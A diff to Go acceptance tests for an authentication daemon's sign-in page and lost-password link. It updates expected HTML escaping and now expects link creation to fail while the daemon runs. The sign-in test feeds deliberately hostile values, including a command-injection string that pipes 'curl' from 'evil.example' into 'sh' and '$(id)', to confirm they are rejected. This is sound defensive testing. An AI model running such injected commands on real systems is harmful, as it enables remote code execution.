@@ -137,7 +137,7 @@ func TestAcceptStaleCookie(t *testing.T) {
 func TestAcceptSignInPage(t *testing.T) {
 	in := start(t)
 	token := strings.SplitAfter(in.A.SignInLink, "token=")[1]
-	if a := in.send(t, "GET", "/sign-in?token="+token+"&x=';id;'", "", ""); a.StatusCode != 200 || !strings.Contains(string(a.Body), "token="+token+"'</code>") {
+	if a := in.send(t, "GET", "/sign-in?token="+token+"&x=';id;'", "", ""); a.StatusCode != 200 || !strings.Contains(string(a.Body), "token="+token+"&#39;</code>") {
 		t.Errorf("%s %s", a.Status, a.Body)
 	}
 	for _, bad := range []string{"x';curl${IFS}evil.example|sh;'", "", "a%0Ab", "a%27b", "$(id)", "a;b", strings.Repeat("a", 101)} {
@@ -223,8 +223,8 @@ func TestAcceptRoles(t *testing.T) {
 	}
 }
 
-// TestAcceptLostPassword gives a member who forgot the password a new link, beside
-// the running daemon and on the stopped one's data. Using it replaces the password and ends what the
+// TestAcceptLostPassword gives a member who forgot the password a new link, on
+// the stopped daemon's data. Using it replaces the password and ends what the
 // old one had opened; the act stands in the audit log.
 func TestAcceptLostPassword(t *testing.T) {
 	data := t.TempDir()
@@ -241,7 +241,7 @@ func TestAcceptLostPassword(t *testing.T) {
 	}
 	in := start(t, func(c *daemon.Config) { c.Data = data })
 	old := in.session(t, in.A)
-	if status, said := link("--email", "a@example.test"); status != 0 || !strings.Contains(said, "token=link_") {
+	if status, said := link("--email", "a@example.test"); status == 0 || !strings.Contains(said, "stopped") {
 		t.Errorf("beside a running daemon: %d %s", status, said)
 	}
 	if err := in.stop(); err != nil {
